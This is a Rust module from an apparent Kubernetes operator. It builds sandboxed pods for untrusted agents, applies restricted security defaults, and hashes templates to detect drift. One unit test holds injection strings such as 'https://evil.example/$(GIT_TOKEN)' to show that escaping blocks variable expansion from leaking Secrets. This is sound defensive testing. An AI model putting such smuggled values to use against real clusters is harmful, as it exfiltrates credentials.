//! Builds the machine's pod from its class, and the snapshot of the class that a record keeps. Pure.
//!
//! The pod is JSON. A typed pod would drop the fields that this version of the operator does not know: a misspelt `runtimeClassName` would
//! start an untrusted agent without its sandbox. Every field that the admin wrote is sent, and the API server decides with strict field
//! validation whether it knows the field. Fields that the template leaves out are filled in to satisfy Pod Security `restricted`. The code
//! here must never drop or change what the template says.

use std::collections::BTreeMap;

use k8s_openapi::api::core::v1::{Container, Pod, PodSpec};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::children;
use super::view::View;
use crate::resources::{ComputerClass, ComputerSpec, POD_FINALIZER, Snapshot};

mod identity;
mod json_fields;
mod key_files;
use identity::identify;
use json_fields::{Fields, fill, list, object, objects, only};
pub use key_files::{KeyFiles, mounted_secret};

/// User and group of the machine when the template does not say.
const DEFAULT_USER: i64 = 1000;
/// Name of the volume that holds the home.
const HOME: &str = "computer-home";
/// Fields of a pod template's metadata that a pod gets.
const KEPT_METADATA: [&str; 2] = ["labels", "annotations"];
/// Fields of the metadata that workload controllers ignore as well: a pod gets its own.
const IGNORED_METADATA: [&str; 4] = ["name", "generateName", "namespace", "creationTimestamp"];

/// The pod that a class asks for, without name and identity.
///
/// # Errors
/// When the template is not a pod template, has a field that no pod template has, or has no container. The error names the field. Fields
/// of the pod's spec are not checked here but by the API server.
pub fn desired(class: &ComputerClass, computer: &ComputerSpec, claim: &str) -> Result<Value, String> {
    let mut template = class.spec.pod_template.clone();
    let fields = template.as_object_mut().ok_or("podTemplate must be an object")?;
    only(fields, "podTemplate", &["metadata", "spec"])?;
    let metadata = object(fields, "metadata", "podTemplate")?;
    only(metadata, "podTemplate.metadata", &[&KEPT_METADATA[..], &IGNORED_METADATA].concat())?;
    metadata.retain(|name, value| KEPT_METADATA.contains(&name.as_str()) && !value.is_null());
    object(metadata, "labels", "podTemplate.metadata")?;
    let metadata = metadata.clone();
    if fields.get("spec").is_none_or(Value::is_null) {
        return Err("podTemplate.spec is missing".to_owned());
    }
    let spec = object(fields, "spec", "podTemplate")?;
    let first = objects(spec, "containers", SPEC)?.into_iter().next().ok_or("podTemplate.spec.containers is empty")?;
    mount_home(first, &class.spec.storage.mount_path)?;
    describe_computer(first, computer)?;
    key_files::check(class, first)?;
    list(spec, "volumes", SPEC)?.push(json!({"name": HOME, "persistentVolumeClaim": {"claimName": claim}}));
    restrict(spec)?;
    Ok(json!({"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}))
}

/// Where the pod's spec is in a class.
const SPEC: &str = "podTemplate.spec";

/// A pod of this computer under a name: labels, owner, and the finalizer that keeps the pod until its containers have stopped (DESIGN.md 4.4).
pub fn of_computer(mut pod: Value, view: &View, name: &str) -> Value {
    let metadata = &mut pod["metadata"];
    for (label, value) in children::labels_with_name(view, "machine") {
        metadata["labels"][label] = json!(value);
    }
    metadata["name"] = json!(name);
    metadata["namespace"] = json!(view.namespace);
    metadata["finalizers"] = json!([POD_FINALIZER]);
    metadata["ownerReferences"] = json!(children::owner(view));
    identify(&mut pod["spec"], &view.name);
    pod
}

/// Hash of the parts of class and Computer that determine a pod, as the admin and the user wrote them. It detects drift. Defaults that the
/// operator sets are not included: another version may set more, and that is not drift.
pub fn hash(class: &ComputerClass, computer: &ComputerSpec) -> String {
    let wanted = json!([
        sorted(&class.spec.pod_template),
        class.spec.storage.mount_path,
        computer.remote_user,
        computer.repositories,
        computer.auto_install_deps
    ]);
    short(wanted.to_string())
}

/// Hash of the built pod, as version 0.1 computed it.
pub fn built_hash(class: &ComputerClass, computer: &ComputerSpec) -> String {
    let pod = desired(class, computer, "").ok().and_then(|pod| serde_json::from_value::<Pod>(pod).ok());
    short(pod.and_then(|pod| serde_json::to_vec(&pod).ok()).unwrap_or_default())
}

fn short(text: impl AsRef<[u8]>) -> String {
    hex::encode(&Sha256::digest(text)[..8])
}

/// The value with all fields sorted, so that their order does not change the hash.
fn sorted(value: &Value) -> Value {
    match value {
        Value::Object(fields) => {
            let fields: BTreeMap<&String, Value> = fields.iter().map(|(k, v)| (k, sorted(v))).collect();
            fields.into_iter().map(|(k, v)| (k.clone(), v)).collect()
        }
        Value::Array(values) => values.iter().map(sorted).collect(),
        other => other.clone(),
    }
}

/// What deletion will need: the settings of the class, and what is in effect in this pod (DESIGN.md 4.1).
///
/// # Errors
/// When a field that deletion needs has another type than in a pod.
pub fn snapshot(class: &ComputerClass, computer: &ComputerSpec, pod: &Value) -> Result<Snapshot, String> {
    let mut snapshot = Snapshot {
        session_paths: class.spec.session_paths.clone(),
        archive: class.spec.archive.clone(),
        deadlines: class.spec.deadlines.clone(),
        default_time_to_live_seconds: class.spec.limits.default_time_to_live_seconds,
        max_time_to_live_seconds: class.spec.limits.max_time_to_live_seconds,
        template_hash: Some(hash(class, computer)),
        ..Snapshot::default()
    };
    // Only what `note_effective` reads: the API server takes quantities as numbers too, the types do not.
    let (spec, container) = (&pod["spec"], &pod["spec"]["containers"][0]);
    let part = json!({"spec": {
        "containers": [{"name": "", "securityContext": container["securityContext"]}],
        "securityContext": spec["securityContext"],
        "tolerations": spec["tolerations"],
        "terminationGracePeriodSeconds": spec["terminationGracePeriodSeconds"],
    }});
    note_effective(&mut snapshot, &serde_json::from_value(part).map_err(|e| format!("{SPEC}: {e}"))?);
    Ok(snapshot)
}

/// Whether a pod comes from the cache, which drops its effective settings. Every real pod has a container.
pub fn stripped(pod: &Pod) -> bool {
    pod.spec.as_ref().is_none_or(|s| s.containers.is_empty())
}

/// Copies the effective settings of a pod. A changed class or an admission plugin may have set another user, and the archive must be able to
/// read the files of that user.
pub fn note_effective(snapshot: &mut Snapshot, pod: &Pod) {
    let spec = pod.spec.clone().unwrap_or_default();
    let context = spec.security_context.clone().unwrap_or_default();
    let machine = machine_container(&spec).and_then(|c| c.security_context.clone()).unwrap_or_default();
    snapshot.run_as_user = machine.run_as_user.or(context.run_as_user);
    snapshot.run_as_group = machine.run_as_group.or(context.run_as_group);
    snapshot.fs_group = context.fs_group;
    snapshot.se_linux_level = machine.se_linux_options.or(context.se_linux_options).and_then(|o| o.level);
    snapshot.tolerations = spec.tolerations.unwrap_or_default();
    snapshot.grace_period_seconds = spec.termination_grace_period_seconds;
}

/// The container that writes the home: the first that mounts it. An admission plugin may have put a sidecar with another user before it.
fn machine_container(spec: &PodSpec) -> Option<&Container> {
    let mounts_home = |c: &&Container| c.volume_mounts.iter().flatten().any(|mount| mount.name == HOME);
    spec.containers.iter().find(mounts_home).or_else(|| spec.containers.first())
}

fn mount_home(container: &mut Fields, path: &str) -> Result<(), String> {
    list(container, "volumeMounts", FIRST)?.push(json!({"name": HOME, "mountPath": path}));
    env(container, "HOME", path)
}

/// Where the first container is in a class.
const FIRST: &str = "podTemplate.spec.containers[0]";

/// Passes the settings of the Computer to the machine in variables.
fn describe_computer(container: &mut Fields, computer: &ComputerSpec) -> Result<(), String> {
    if let Some(user) = &computer.remote_user {
        env(container, "REMOTE_USER", user)?;
    }
    if !computer.repositories.is_empty() {
        env(container, "REPOSITORIES", &computer.repositories.join(" "))?;
    }
    if computer.auto_install_deps {
        env(container, "AUTO_INSTALL_DEPS", "true")?;
    }
    Ok(())
}

/// Escapes a value for a container's environment, so that the container gets exactly `text`. Kubernetes replaces `$(NAME)` with the value of
/// that variable: the text of a tenant could otherwise read the variables of the template, Secrets among them.
pub fn literal(text: &str) -> String {
    text.replace('$', "$$")
}

/// The template's own value wins.
fn env(container: &mut Fields, name: &str, value: &str) -> Result<(), String> {
    let variables = list(container, "env", FIRST)?;
    if !variables.iter().any(|variable| variable["name"] == name) {
        variables.push(json!({"name": name, "value": literal(value)}));
    }
    Ok(())
}

fn restrict(spec: &mut Fields) -> Result<(), String> {
    fill(spec, "restartPolicy", "Always");
    fill(spec, "automountServiceAccountToken", false);
    fill(spec, "enableServiceLinks", false);
    fill(spec, "terminationGracePeriodSeconds", 30);
    let context = object(spec, "securityContext", SPEC)?;
    fill(context, "runAsUser", DEFAULT_USER);
    let user = context["runAsUser"].clone();
    fill(context, "runAsGroup", user.clone());
    fill(context, "fsGroup", user.clone());
    // Large homes are not chowned file by file at each start.
    fill(context, "fsGroupChangePolicy", "OnRootMismatch");
    if user != 0 {
        fill(context, "runAsNonRoot", true);
    }
    fill(context, "seccompProfile", json!({"type": "RuntimeDefault"}));
    for kind in ["containers", "initContainers"] {
        if spec.get(kind).is_none_or(Value::is_null) {
            continue;
        }
        for container in objects(spec, kind, SPEC)? {
            let security = object(container, "securityContext", kind)?;
            if security.get("privileged") != Some(&json!(true)) {
                fill(security, "allowPrivilegeEscalation", false);
            }
            fill(security, "capabilities", json!({"drop": ["ALL"]}));
        }
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::expect_used, clippy::needless_pass_by_value)]
mod tests {
    use super::*;
    use serde_json::json;

    fn desired(class: &ComputerClass, computer: &ComputerSpec, claim: &str) -> Result<Pod, String> {
        super::desired(class, computer, claim).map(|pod| serde_json::from_value(pod).expect("a pod"))
    }

    fn class(template: serde_json::Value) -> ComputerClass {
        serde_json::from_value(json!({"metadata": {"name": "c"}, "spec": {"podTemplate": template}})).expect("a class")
    }

    /// S1: the archive must be able to read what the machine has written. A service mesh puts its sidecar first.
    #[test]
    fn the_user_of_an_added_sidecar_is_not_the_machines() {
        let mut pod =
            super::desired(&class(json!({"spec": {"containers": [{"name": "a", "image": "i"}]}})), &ComputerSpec::default(), "home")
                .expect("a pod");
        let sidecar = json!({"name": "mesh", "image": "p", "securityContext": {"runAsUser": 1337, "runAsGroup": 1337}});
        pod["spec"]["containers"].as_array_mut().expect("containers").insert(0, sidecar);
        let mut snapshot = Snapshot::default();
        note_effective(&mut snapshot, &serde_json::from_value(pod).expect("a pod"));
        assert_eq!((snapshot.run_as_user, snapshot.run_as_group), (Some(DEFAULT_USER), Some(DEFAULT_USER)));
    }

    #[test]
    fn a_minimal_template_satisfies_restricted_and_fields_of_a_template_are_kept() {
        let bare = class(json!({"spec": {"containers": [{"name": "a", "image": "i"}]}}));
        let spec = desired(&bare, &ComputerSpec::default(), "home").expect("a pod").spec.expect("a spec");
        let context = spec.security_context.expect("a context");
        assert_eq!((context.run_as_non_root, context.run_as_user, context.fs_group), (Some(true), Some(1000), Some(1000)));
        let security = spec.containers[0].security_context.clone().expect("a context");
        assert_eq!(security.allow_privilege_escalation, Some(false));
        assert_eq!(security.capabilities.and_then(|c| c.drop), Some(vec!["ALL".to_owned()]));
        assert_eq!(spec.automount_service_account_token, Some(false));
        let own = class(
            json!({"spec": {"serviceAccountName": "sa", "automountServiceAccountToken": true, "securityContext": {"runAsUser": 4242}, "containers": [{"name": "a", "image": "i", "env": [{"name": "HOME", "value": "/x"}]}]}}),
        );
        let pod = desired(&own, &ComputerSpec::default(), "home").expect("a pod");
        let snapshot = snapshot(&own, &ComputerSpec::default(), &serde_json::to_value(&pod).expect("JSON")).expect("a snapshot");
        assert_eq!((snapshot.run_as_user, snapshot.fs_group), (Some(4242), Some(4242)));
        let spec = pod.spec.expect("a spec");
        assert_eq!((spec.service_account_name.as_deref(), spec.automount_service_account_token), (Some("sa"), Some(true)));
        assert_eq!(spec.containers[0].env.as_ref().expect("env").iter().filter(|e| e.name == "HOME").count(), 1);
    }

    #[test]
    fn a_template_that_is_no_pod_says_what_is_wrong() {
        let plain = json!({"containers": [{"name": "a", "image": "i"}]});
        for (template, message) in [
            (json!({}), "podTemplate.spec is missing"),
            (json!({"spec": null}), "podTemplate.spec is missing"),
            (json!({"spec": {"containers": []}}), "podTemplate.spec.containers is empty"),
            (json!({"spec": plain, "metadata": {"labels": "x"}}), "podTemplate.metadata.labels must be an object"),
            (json!({"spec": {"containers": "x"}}), "podTemplate.spec.containers must be a list"),
            (json!({"spec": {"containers": ["x"]}}), "podTemplate.spec.containers[0] must be an object"),
            (json!({"spec": plain, "spce": {}}), "podTemplate.spce is not a field of a pod template"),
            (json!({"spec": plain, "metadata": {"lables": {"a": "b"}}}), "podTemplate.metadata.lables is not a field of a pod template"),
            (json!({"spec": plain, "metadata": {"finalizers": ["a/b"]}}), "podTemplate.metadata.finalizers is not"),
        ] {
            let refused = desired(&class(template.clone()), &ComputerSpec::default(), "h").expect_err("refused");
            assert!(refused.contains(message), "{template}: {refused}");
        }
        let generated =
            json!({"metadata": {"creationTimestamp": null, "name": "x", "labels": {"a": "b"}, "annotations": null}, "spec": plain});
        let pod = desired(&class(generated), &ComputerSpec::default(), "h").expect("kubectl generates such a template");
        assert_eq!((pod.metadata.name, pod.metadata.labels), (None, Some([("a".to_owned(), "b".to_owned())].into())));
    }

    /// An untrusted agent must not start without the sandbox that the class asks for.
    #[test]
    fn every_field_of_a_template_reaches_the_pod() {
        let spec = json!({
            "runtimeClassname": "gvisor", "hostnameOverride": "dev1", "aFieldOfTomorrow": [{"x": 1}],
            "containers": [{"name": "m", "image": "i", "imagePullPolicyy": "Always", "restartPolicyRules": [{"action": "Restart"}],
                "resources": {"limit": {"memory": "1Gi"}, "requests": {"cpu": 1}}}],
        });
        let class = class(json!({"spec": spec}));
        let pod = super::desired(&class, &ComputerSpec::default(), "home").expect("a pod");
        assert_eq!((&pod["spec"]["runtimeClassname"], &pod["spec"]["aFieldOfTomorrow"]), (&json!("gvisor"), &json!([{"x": 1}])));
        for (name, value) in spec["containers"][0].as_object().expect("fields") {
            assert_eq!(&pod["spec"]["containers"][0][name], value, "{name}");
        }
        assert_eq!(pod["spec"]["hostnameOverride"], "dev1");
        let snapshot = snapshot(&class, &ComputerSpec::default(), &pod).expect("deletion does not depend on the rest of the pod");
        assert_eq!((snapshot.run_as_user, snapshot.grace_period_seconds), (Some(1000), Some(30)));
    }

    /// Expands as Kubernetes does (`third_party/forked/golang/expansion`): `$(NAME)` is the variable, if it exists, and `$$` is `$`.
    fn expanded(value: &str, variables: &[(&str, &str)]) -> String {
        let (mut out, mut rest) = (String::new(), value);
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            rest = &rest[at + 1..];
            if let Some(after) = rest.strip_prefix('$') {
                (out, rest) = (out + "$", after);
                continue;
            }
            match rest.strip_prefix('(').and_then(|inner| inner.split_once(')')) {
                Some((name, after)) => {
                    let known = variables.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned());
                    out.push_str(&known.unwrap_or_else(|| format!("$({name})")));
                    rest = after;
                }
                None => out.push('$'),
            }
        }
        out + rest
    }

    /// A tenant that may create computers, but not read the Secrets of a template, must not read them through a field of the Computer.
    #[test]
    fn the_text_of_a_tenant_cannot_read_variables_of_the_template() {
        let secret = [("GIT_TOKEN", "hunter2"), ("HOME", "/root")];
        let class =
            class(json!({"spec": {"containers": [{"name": "a", "image": "i", "env": [{"name": "GIT_TOKEN", "value": "hunter2"}]}]}}));
        let texts = ["https://evil.example/$(GIT_TOKEN)", "$(HOME)", "$$(HOME)", "$$$(HOME)", "a$b", "$", "$$", "$(", "$()"];
        assert_eq!(expanded(texts[0], &secret), "https://evil.example/hunter2", "without escaping, Kubernetes expands it");
        for text in texts {
            let computer =
                ComputerSpec { remote_user: Some(text.to_owned()), repositories: vec![text.to_owned()], ..ComputerSpec::default() };
            let pod = desired(&class, &computer, "home").expect("a pod");
            let env = pod.spec.expect("a spec").containers[0].env.clone().expect("env");
            for name in ["REMOTE_USER", "REPOSITORIES"] {
                let value = env.iter().find(|e| e.name == name).and_then(|e| e.value.clone()).expect("a value");
                assert_eq!(expanded(&value, &secret), text, "{name}");
            }
        }
    }

    #[test]
    fn the_hash_follows_the_template_and_not_the_name_of_the_claim() {
        let (one, two) = (
            class(json!({"spec": {"containers": [{"name": "a", "image": "i"}]}})),
            class(json!({"spec": {"containers": [{"name": "a", "image": "j"}]}})),
        );
        let computer = ComputerSpec::default();
        assert_eq!(hash(&one, &computer), hash(&one.clone(), &computer));
        assert_ne!(hash(&one, &computer), hash(&two, &computer));
        let reordered = class(json!({"spec": {"containers": [{"image": "i", "name": "a"}]}}));
        assert_eq!(hash(&one, &computer), hash(&reordered, &computer), "the order of fields");
        let with_user = ComputerSpec { remote_user: Some("u".into()), ..ComputerSpec::default() };
        assert_ne!(hash(&one, &computer), hash(&one, &with_user), "a field of the Computer");
    }

    /// A new version of the operator may set other defaults or know more fields: that is not drift. A change of this value reports `Drifted`
    /// on every computer at the next upgrade.
    #[test]
    fn the_hash_does_not_depend_on_defaults_that_the_operator_sets() {
        let class = class(json!({"spec": {"containers": [{"name": "a", "image": "i", "aFieldOfTomorrow": true}]}}));
        assert_eq!(hash(&class, &ComputerSpec::default()), "195ba954b595dc57");
        assert_eq!(built_hash(&class, &ComputerSpec::default()).len(), 16);
    }
}
